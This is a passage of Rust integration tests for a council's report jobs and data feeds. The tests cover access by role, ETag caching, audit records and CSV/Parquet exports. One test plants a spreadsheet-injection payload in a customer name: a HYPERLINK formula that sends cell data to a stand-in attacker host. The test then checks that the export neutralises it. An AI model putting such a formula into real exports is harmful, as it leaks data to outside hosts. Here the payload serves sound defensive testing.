        let mut row: report_job::ActiveModel = report_job::Entity::find_by_id(failed).one(&app.db).await.unwrap().unwrap().into();
        row.error = Set(Some("error returned from database: relation \"x\" does not exist".into()));
        row.attempts = Set(3);
        row.update(&app.db).await.unwrap();
        let body = app.graphql_as(&ls, &format!("{{ reportJob(id: \"{failed}\") {{ {JOB} }} }}"), json!({})).await;
        let error = body["data"]["reportJob"]["error"].as_str().unwrap_or_else(|| panic!("{body}"));
        assert!(!error.contains("relation") && error.contains("3 attempts"), "{error}");
        assert_eq!(body["data"]["reportJob"]["requestedBy"], "user-monitoring_officer");
    }

    async fn the_subscription_pushes_what_the_worker_changes(app) {
        let mo = app.token(Role::MonitoringOfficer, &[]);
        let body = app.graphql_as(&mo, REQUEST, json!({"i": {"reportingYear": current_year() - 1}})).await;
        let id: i64 = body["data"]["requestAnnualReport"]["id"].as_str().unwrap().parse().unwrap();
        let mut ws = ws_connect(&app, &mo).await;
        let doc = format!("subscription {{ reportJobUpdated(id: \"{id}\") {{ id status progress version artifacts {{ name url }} }} }}");
        ws.send(Message::text(json!({"id": "1", "type": "subscribe", "payload": {"query": doc}}).to_string())).await.unwrap();
        let first = ws_recv(&mut ws).await;
        assert_eq!(first["type"], "next", "{first}");
        assert_eq!(first["payload"]["data"]["reportJobUpdated"], json!({"id": id.to_string(), "status": "QUEUED", "progress": 0, "version": 1, "artifacts": []}));
        // The worker (here: a direct update) takes the job and makes progress.
        set_status(&app, id, ReportJobStatus::Running, 40).await;
        let second = ws_recv(&mut ws).await;
        assert_eq!(second["payload"]["data"]["reportJobUpdated"]["status"], "RUNNING", "{second}");
        assert_eq!(second["payload"]["data"]["reportJobUpdated"]["progress"], 40);
        assert_eq!(second["payload"]["data"]["reportJobUpdated"]["version"], 2);
        artifact(&app, id, "summary.csv", "text/csv; charset=utf-8", b"reporting_year,metric\n").await;
        set_status(&app, id, ReportJobStatus::Done, 100).await;
        let third = ws_recv(&mut ws).await;
        assert_eq!(third["payload"]["data"]["reportJobUpdated"]["status"], "DONE", "{third}");
        assert_eq!(third["payload"]["data"]["reportJobUpdated"]["artifacts"], json!([{"name": "summary.csv", "url": format!("/reports/{id}/summary.csv")}]));
        // Done is final: the subscription completes.
        let last = ws_recv(&mut ws).await;
        assert_eq!(last, json!({"id": "1", "type": "complete"}));
        // Others may not follow jobs; an unknown job is refused at once.
        let mut ws = ws_connect(&app, &app.token(Role::Officer, &["AAA"])).await;
        ws.send(Message::text(json!({"id": "2", "type": "subscribe", "payload": {"query": doc}}).to_string())).await.unwrap();
        let refused = ws_recv(&mut ws).await;
        assert_eq!(refused["type"], "next", "{refused}");
        assert_eq!(codes(&refused["payload"]), ["FORBIDDEN"], "{refused}");
        let mut ws = ws_connect(&app, &mo).await;
        let unknown = "subscription { reportJobUpdated(id: \"999999\") { id } }";
        ws.send(Message::text(json!({"id": "3", "type": "subscribe", "payload": {"query": unknown}}).to_string())).await.unwrap();
        let missing = ws_recv(&mut ws).await;
        assert_eq!(missing["type"], "next", "{missing}");
        assert_eq!(codes(&missing["payload"]), ["NOT_FOUND"], "{missing}");
    }

    async fn files_download_with_etag_caching_and_refusals(app) {
        let public = job(&app, 2023, ReportEdition::Public, ReportJobStatus::Done).await;
        let internal = job(&app, 2023, ReportEdition::Internal, ReportJobStatus::Done).await;
        let queued = job(&app, 2022, ReportEdition::Public, ReportJobStatus::Queued).await;
        let csv = b"reporting_year,metric,count\n2023-24,reports,12\n".to_vec();
        for id in [public, internal, queued] {
            artifact(&app, id, "summary.csv", "text/csv; charset=utf-8", &csv).await;
            artifact(&app, id, "committee-paper.html", "text/html; charset=utf-8", b"<!doctype html><title>Paper</title>").await;
        }
        let stored = report_artifact::Entity::find().filter(report_artifact::Column::JobId.eq(public)).filter(report_artifact::Column::Name.eq("summary.csv")).one(&app.db).await.unwrap().unwrap();
        let mo = app.token(Role::MonitoringOfficer, &[]);
        let path = format!("/reports/{public}/summary.csv");
        let r = get_as(&app, Some(&mo), &path, &[]).await;
        assert_eq!(r.status(), 200);
        let h = r.headers().clone();
        assert_eq!(h["content-type"], "text/csv; charset=utf-8");
        let etag = format!("\"{}\"", stored.sha256);
        assert_eq!(h["etag"], etag.as_str());
        assert_eq!(h["cache-control"], "private, max-age=3600");
        assert_eq!(h["content-disposition"], "attachment; filename=\"upc-annual-report-2023-24-public-summary.csv\"");
        assert_eq!(r.bytes().await.unwrap().to_vec(), csv);
        let paper = get_as(&app, Some(&mo), &format!("/reports/{public}/committee-paper.html"), &[]).await;
        assert_eq!(paper.headers()["content-type"], "text/html; charset=utf-8");
        // The same ETag again: 304 and no body.
        let r = get_as(&app, Some(&mo), &path, &[("If-None-Match", etag.as_str())]).await;
        assert_eq!(r.status(), 304);
        assert_eq!(r.headers()["etag"], etag.as_str());
        assert!(r.bytes().await.unwrap().is_empty());
        let r = get_as(&app, Some(&mo), &path, &[("If-None-Match", "\"something-else\"")]).await;
        assert_eq!(r.status(), 200);
        // Refusals, in the API's error shape.
        let r = get_as(&app, None, &path, &[]).await;
        assert_eq!(r.status(), 401);
        assert!(r.headers()["www-authenticate"].to_str().unwrap().starts_with("Bearer"));
        assert_eq!(error_code(r).await, "UNAUTHENTICATED");
        let r = get_as(&app, Some("not-a-token"), &path, &[]).await;
        assert_eq!(r.status(), 401);
        for role in [Role::Officer, Role::Admin, Role::ElectedMember, Role::GroupDirector] {
            let r = get_as(&app, Some(&app.token(role, &["AAA"])), &path, &[]).await;
            assert_eq!(r.status(), 403, "{}", role.as_str());
            assert_eq!(error_code(r).await, "FORBIDDEN");
        }
        for missing in [format!("/reports/{public}/nothing.csv"), "/reports/999999/summary.csv".into(), "/reports/abc/summary.csv".into()] {
            let r = get_as(&app, Some(&mo), &missing, &[]).await;
            assert_eq!(r.status(), 404, "{missing}");
            assert_eq!(error_code(r).await, "NOT_FOUND");
        }
        // The Standards Committee: finished public editions only.
        let sc = app.token(Role::StandardsCommittee, &[]);
        assert_eq!(get_as(&app, Some(&sc), &path, &[]).await.status(), 200);
        let r = get_as(&app, Some(&sc), &format!("/reports/{internal}/summary.csv"), &[]).await;
        assert_eq!(r.status(), 403);
        assert_eq!(error_code(r).await, "FORBIDDEN");
        let r = get_as(&app, Some(&sc), &format!("/reports/{queued}/summary.csv"), &[]).await;
        assert_eq!(r.status(), 404);
        let ls = app.token(Role::LegalServices, &[]);
        assert_eq!(get_as(&app, Some(&ls), &format!("/reports/{internal}/summary.csv"), &[]).await.status(), 200);
        // Every download (200) is in the audit trail, and nothing else is.
        let events = audit_event::Entity::find().filter(audit_event::Column::Action.eq("report.download")).order_by_asc(audit_event::Column::Id).all(&app.db).await.unwrap();
        assert_eq!(events.len(), 5, "MO csv, MO paper, MO csv again, SC csv, LS internal csv");
        assert_eq!(events[0].entity_id.as_deref(), Some(stored.id.to_string().as_str()));
        assert_eq!(events[0].after.as_ref().unwrap()["name"], "summary.csv");
        assert_eq!(events[3].actor_sub, "user-standards_committee");
        // The job lists the same files, with their download paths.
        let body = app.graphql_as(&mo, &format!("{{ reportJob(id: \"{public}\") {{ {JOB} }} }}"), json!({})).await;
        let files = &body["data"]["reportJob"]["artifacts"];
        assert_eq!(files[1], json!({"name": "summary.csv", "contentType": "text/csv; charset=utf-8", "sizeBytes": csv.len(), "sha256": stored.sha256, "url": path}), "{body}");
        assert_eq!(files[0]["name"], "committee-paper.html");
    }

    async fn the_report_is_served_as_typed_objects(app) {
        let mo = app.token(Role::MonitoringOfficer, &[]);
        let sc = app.token(Role::StandardsCommittee, &[]);
        let report = sample_report(Edition::Internal);
        let id = job(&app, 2024, ReportEdition::Internal, ReportJobStatus::Done).await;
        artifact(&app, id, "report.json", "application/json", &serde_json::to_vec(&report).unwrap()).await;
        let doc = format!("{{ reportJob(id: \"{id}\") {{ status {REPORT} }} }}");
        let body = app.graphql_as(&mo, &doc, json!({})).await;
        assert!(body["errors"].is_null(), "{body}");
        let got = &body["data"]["reportJob"]["report"];
        assert_eq!(got["formatVersion"], report.format_version);
        assert_eq!(got["edition"], "INTERNAL");
        assert_eq!(got["reportingYearLabel"], "2024-25");
        assert_eq!(got["periodStart"], "2024-04-01");
        assert_eq!(got["services"], json!([{"id": "1", "code": "AAA", "name": "Service AAA"}]));
        assert_eq!(got["narrative"], json!(report.narrative));
        for (row, want) in got["summary"].as_array().unwrap().iter().zip(&report.summary) {
            assert_eq!(row["metric"], want.metric.as_str());
            assert_eq!(row["reportingYear"], want.reporting_year.as_str());
            assert_eq!(row["count"], json!(want.figure.count));
            assert_eq!(row["previousCount"], json!(want.figure.previous_count));
            assert_eq!(row["countSuppressed"], want.figure.count_suppressed);
        }
        assert_eq!(got["summary"].as_array().unwrap().len(), report.summary.len());
        assert_eq!(got["byService"][0]["count"], 30);
        assert_eq!(got["byStage"][0]["previousCountSuppressed"], true);
        assert_eq!(got["byRestrictionType"][0]["restrictionType"], "contact_form");
        assert_eq!(got["serviceByRestrictionType"][0]["previousCount"], 8);
        assert_eq!(got["monthly"][0]["month"], "2024-04");
        assert_eq!(got["policyChecks"], json!([{"reportingYear": "2024-25", "check": "customer_told", "outcome": "not_met", "count": 7, "countSuppressed": false}]));
        let cases = got["cases"].as_array().unwrap();
        assert_eq!(cases.len(), 2);
        for (row, want) in cases.iter().zip(&report.cases) {
            assert_eq!(row["caseReference"], want.case_reference.as_str());
            assert_eq!(row["warningBeforeStage2"], check(want.warning_before_stage_2));
            assert_eq!(row["appealRightsGiven"], check(want.appeal_rights_given));
            assert_eq!(row["appealDecided"], check(want.appeal_decided));
            assert_eq!(row["customerTold"], check(want.customer_told));
            assert_eq!(row["reviewWithinPeriod"], check(want.review_within_period));
            assert_eq!(row["adjustmentsConsidered"], check(want.adjustments_considered));
            assert_eq!(row["policyFollowed"], want.policy_followed);
            assert_eq!(row["closedOn"], json!(want.closed_on.map(|d| d.to_string())));
            assert_eq!(row["notes"], json!(want.notes));
        }
        // The Committee reads the same report without the free text.
        let body = app.graphql_as(&sc, &doc, json!({})).await;
        let cases = body["data"]["reportJob"]["report"]["cases"].as_array().unwrap_or_else(|| panic!("{body}"));
        assert_eq!(cases[0]["caseReference"], "UPC-2024-0001");
        assert_eq!(cases[0]["notes"], Value::Null);
        let errors = body["errors"].as_array().unwrap();
        assert_eq!(errors.len(), 2, "one refusal per case row: {body}");
        assert!(errors.iter().all(|e| e["extensions"]["code"] == "FORBIDDEN" && e["path"].as_array().unwrap().last() == Some(&json!("notes"))), "{body}");
        // Until a job is done there is no report.
        let queued = job(&app, 2021, ReportEdition::Public, ReportJobStatus::Queued).await;
        let body = app.graphql_as(&mo, &format!("{{ reportJob(id: \"{queued}\") {{ report {{ reportingYear }} }} }}"), json!({})).await;
        assert_eq!(body["data"]["reportJob"]["report"], Value::Null, "{body}");
    }

    async fn the_decisions_feed_equals_an_independent_query(app) {
        let (inside, outside) = seeded(&app).await;
        let (from, to) = (day(2024, 4, 1), day(2025, 3, 31));
        let expected = expected_decisions(&app.db, from, to).await;
        assert!(expected.len() > 20, "the seeded year has decisions: {}", expected.len());
        let kinds: BTreeSet<&str> = expected.iter().map(|r| r[0].as_str()).collect();
        assert!(kinds.len() >= 4, "{kinds:?}");
        let ls = app.token(Role::LegalServices, &[]);
        let r = get_as(&app, Some(&ls), &format!("/feeds/decisions?{YEAR}"), &[]).await;
        assert_eq!(r.status(), 200);
        assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8");
        assert_eq!(r.headers()["content-disposition"], "attachment; filename=\"decisions-2024-04-01-2025-03-31.csv\"");
        let request_id = r.headers()["x-request-id"].to_str().unwrap().to_string();
        let rows = parse_csv(&r.text().await.unwrap());
        assert_eq!(rows[0], header(DECISION_HEADER, true));
        assert_eq!(&rows[1..], expected.as_slice());
        // The year's edge in British Summer Time, by the council's local date.
        let edge = rows.iter().find(|r| r[0] == "determination" && r[1] == inside.to_string()).expect("the determination at 00:30 on 1 April 2024");
        assert_eq!(edge[4], "2024-04-01");
        assert!(!rows.iter().any(|r| r[0] == "determination" && r[1] == outside.to_string()));
        // Names were read: one access record per case, and the pull is in the audit trail.
        let cases: BTreeSet<&str> = expected.iter().map(|r| r[2].as_str()).collect();
        let records = tests::access_records_of(&app.db, &request_id).await;
        assert_eq!(records.len(), cases.len());
        assert!(records.iter().all(|r| r.category == access_read::AccessCategory::CustomerIdentity && r.operation == "http:GET /feeds/decisions" && r.customer_id.is_some()));
        let event = audit_event::Entity::find().filter(audit_event::Column::RequestId.eq(request_id)).one(&app.db).await.unwrap().expect("an audit event");
        assert_eq!(event.action, "feed.download");
        assert_eq!(event.after.as_ref().unwrap()["rows"], expected.len());
        // The Standards Committee gets the same rows without the names, and reads none.
        let sc = app.token(Role::StandardsCommittee, &[]);
        let r = get_as(&app, Some(&sc), &format!("/feeds/decisions?{YEAR}"), &[]).await;
        let request_id = r.headers()["x-request-id"].to_str().unwrap().to_string();
        let rows = parse_csv(&r.text().await.unwrap());
        assert_eq!(rows[0], header(DECISION_HEADER, false));
        let anonymous: Vec<Vec<String>> = expected.iter().map(|r| r[..r.len() - 1].to_vec()).collect();
        assert_eq!(&rows[1..], anonymous.as_slice());
        assert_eq!(tests::access_records_of(&app.db, &request_id).await.len(), 0);
    }

    async fn feed_cells_a_spreadsheet_would_execute_are_neutralised(app) {
        // A customer named like a formula (CSV injection): Excel would run it when the officer
        // opens the feed. The CSV carries it with a leading apostrophe; Parquet as it is.
        const NAME: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
        let (inside, _) = seeded(&app).await;
        let case_id = count_sql(&app.db, &format!("SELECT case_id FROM determination WHERE id = {inside}")).await;
        let customer_id = count_sql(&app.db, &format!("SELECT customer_id FROM upc_case WHERE id = {case_id}")).await;
        let customer = entities::customer::Entity::find_by_id(customer_id).one(&app.db).await.unwrap().unwrap();
        let mut renamed: entities::customer::ActiveModel = customer.into();
        renamed.display_name = Set(NAME.to_string());
        renamed.update(&app.db).await.unwrap();
        let ls = app.token(Role::LegalServices, &[]);
        let text = get_as(&app, Some(&ls), &format!("/feeds/decisions?{YEAR}"), &[]).await.text().await.unwrap();
        // Read back with the csv crate, as a spreadsheet import would.
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let header = reader.headers().unwrap().clone();
        let name_at = header.iter().position(|h| h == "customer_name").unwrap();
        let id_at = header.iter().position(|h| h == "decision_id").unwrap();
        let rows: Vec<::csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        let row = rows.iter().find(|r| &r[0] == "determination" && r[id_at] == inside.to_string()).expect("the renamed customer's determination");
        assert_eq!(&row[name_at], format!("'{NAME}"));
        for record in &rows {
            for cell in record.iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell starts like a formula: {cell:?}");
            }
        }
        let parquet = get_as(&app, Some(&ls), &format!("/feeds/decisions?{YEAR}&format=parquet"), &[]).await.bytes().await.unwrap();
        let (_, rows) = read_parquet(parquet);
        assert!(rows.iter().any(|r| r.last().map(String::as_str) == Some(NAME)), "Parquet keeps the name");
    }

    async fn the_restrictions_feed_equals_an_independent_query(app) {
        seeded(&app).await;
        let (from, to) = (day(2024, 4, 1), day(2025, 3, 31));
        let expected = expected_restrictions(&app.db, from, to).await;
        assert!(expected.len() > 10, "{}", expected.len());
        assert!(expected.iter().any(|r| !r[6].is_empty()), "some were lifted");
        let mo = app.token(Role::MonitoringOfficer, &[]);
        let r = get_as(&app, Some(&mo), &format!("/feeds/restrictions?{YEAR}&format=csv"), &[]).await;
        assert_eq!(r.status(), 200);
        let rows = parse_csv(&r.text().await.unwrap());
        assert_eq!(rows[0], header(RESTRICTION_HEADER, true));
        assert_eq!(&rows[1..], expected.as_slice());
    }

    async fn parquet_reads_back_with_the_same_rows_and_columns(app) {
        seeded(&app).await;
        let ls = app.token(Role::LegalServices, &[]);
        for feed in ["decisions", "restrictions"] {
            let csv = get_as(&app, Some(&ls), &format!("/feeds/{feed}?{YEAR}"), &[]).await.text().await.unwrap();
            let csv = parse_csv(&csv);
            let r = get_as(&app, Some(&ls), &format!("/feeds/{feed}?{YEAR}&format=parquet"), &[]).await;
            assert_eq!(r.status(), 200);
            assert_eq!(r.headers()["content-type"], "application/vnd.apache.parquet");
            let (columns, rows) = read_parquet(r.bytes().await.unwrap());
            assert_eq!(columns, csv[0], "{feed}");
            assert_eq!(rows, csv[1..].to_vec(), "{feed}");
            assert!(!rows.is_empty());
        }
    }

    async fn an_empty_range_keeps_the_columns(app) {
        seeded(&app).await;
        let ls = app.token(Role::LegalServices, &[]);
        let sc = app.token(Role::StandardsCommittee, &[]);
        let empty = "from=2010-01-01&to=2010-12-31";
        for (feed, base) in [("decisions", DECISION_HEADER), ("restrictions", RESTRICTION_HEADER)] {
            for (token, names) in [(&ls, true), (&sc, false)] {
                let r = get_as(&app, Some(token), &format!("/feeds/{feed}?{empty}"), &[]).await;
                assert_eq!(r.status(), 200);
                assert_eq!(parse_csv(&r.text().await.unwrap()), vec![header(base, names)]);
                let r = get_as(&app, Some(token), &format!("/feeds/{feed}?{empty}&format=parquet"), &[]).await;
                let (columns, rows) = read_parquet(r.bytes().await.unwrap());
                assert_eq!(columns, header(base, names));
                assert!(rows.is_empty());
            }
        }
    }

    async fn an_officer_sees_only_their_services_rows_5_4(app) {
        seeded(&app).await;
        let (from, to) = (day(2024, 4, 1), day(2025, 3, 31));
        let officer = app.token(Role::Officer, &["HOU"]);
        for (feed, expected) in [
            ("decisions", expected_decisions(&app.db, from, to).await),
            ("restrictions", expected_restrictions(&app.db, from, to).await),
        ] {
            let service_column = if feed == "decisions" { 3 } else { 2 };
            let mine: Vec<Vec<String>> = expected.iter().filter(|r| r[service_column] == "HOU").cloned().collect();
            assert!(!mine.is_empty() && mine.len() < expected.len(), "{feed}: HOU has some of the rows, not all");
            let rows = parse_csv(&get_as(&app, Some(&officer), &format!("/feeds/{feed}?{YEAR}"), &[]).await.text().await.unwrap());
            assert_eq!(&rows[1..], mine.as_slice(), "{feed}");
        }
        // An officer of a service with no cases sees the columns and no rows.
        let elsewhere = app.token(Role::Officer, &["ZZZ"]);
        let rows = parse_csv(&get_as(&app, Some(&elsewhere), &format!("/feeds/decisions?{YEAR}"), &[]).await.text().await.unwrap());
        assert_eq!(rows, vec![header(DECISION_HEADER, true)]);
    }

    async fn feed_requests_are_checked(app) {
        let ls = app.token(Role::LegalServices, &[]);
        let cases = [
            ("from=2024-04-01", "to"),
            ("from=2024-13-01&to=2025-03-31", "from"),
            ("from=yesterday&to=2025-03-31", "from"),
            ("from=2025-04-01&to=2025-03-31", "to"),
            ("from=2020-04-01&to=2025-03-31", "to"),
            ("from=2024-04-01&to=2025-03-31&format=xlsx", "format"),
            ("from=2024-04-01&to=2025-03-31&colour=blue", "colour"),
            ("from=2024-04-01&from=2024-05-01&to=2025-03-31", "from"),
        ];
        for (query, field) in cases {
            let r = get_as(&app, Some(&ls), &format!("/feeds/decisions?{query}"), &[]).await;
            assert_eq!(r.status(), 400, "{query}");
            let body: Value = r.json().await.unwrap();
            assert_eq!(body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT", "{body}");
            assert_eq!(body["errors"][0]["extensions"]["field"], field, "{query}: {body}");
        }
        let r = get_as(&app, None, &format!("/feeds/restrictions?{YEAR}"), &[]).await;
        assert_eq!(r.status(), 401);
        assert_eq!(error_code(r).await, "UNAUTHENTICATED");
        for role in [Role::Admin, Role::ElectedMember] {
            let r = get_as(&app, Some(&app.token(role, &["HOU"])), &format!("/feeds/restrictions?{YEAR}"), &[]).await;
            assert_eq!(r.status(), 403, "{}", role.as_str());
            assert_eq!(error_code(r).await, "FORBIDDEN");
        }
        assert_eq!(
            audit_event::Entity::find().filter(audit_event::Column::Action.eq("feed.download")).count(&app.db).await.unwrap(),
            0,
            "refused pulls record nothing"
        );
    }
}
